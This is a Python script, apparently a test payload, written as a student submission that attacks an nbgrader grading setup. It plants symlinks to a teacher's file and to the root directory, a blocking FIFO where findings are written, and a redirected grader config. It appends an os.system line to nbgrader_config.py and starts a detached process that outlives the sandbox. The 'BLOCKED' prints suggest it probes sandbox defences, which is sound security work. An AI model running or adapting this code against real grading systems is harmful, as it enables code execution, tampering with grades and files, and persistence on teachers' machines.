# Leave traps in this submission's own course for the grader's next steps, which run
# outside the sandbox: links to the teacher's files where the feedback and findings go,
# a FIFO that blocks whoever opens it, nbgrader configuration, and a process that
# lives on to change the course after the kernel is gone.
import os
import subprocess
import sys
from pathlib import Path

root = next(p for p in [Path.cwd(), *Path.cwd().parents] if (p / "gradebook.db").exists())
feedback = root / "feedback" / "mallory" / "ps1" / "attack.html"
feedback.parent.mkdir(parents=True, exist_ok=True)
for link, target in [(feedback, TARGETS["home_file"]), (root / "escape", "/")]:
    try:
        os.symlink(target, link)
        print("tamper: planted link", link.name)
    except OSError as exc:
        print("tamper: BLOCKED link", type(exc).__name__)
try:
    os.mkfifo(root / "findings.json")
    print("tamper: planted fifo")
except OSError as exc:
    print("tamper: BLOCKED fifo", type(exc).__name__)
(root / "nbgrader_config.json").write_text('{"CourseDirectory": {"db_url": "sqlite:////tmp/x.db"}}')
try:
    with open(root / "nbgrader_config.py", "a", encoding="utf-8") as f:
        f.write("import os; os.system('touch /tmp/pwned')\n")
    print("tamper: rewrote nbgrader_config.py")
except OSError as exc:
    print("tamper: BLOCKED config", type(exc).__name__)
subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(300)", TARGETS["marker"]],
    start_new_session=True,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
print("tamper: spawned a lingering process")
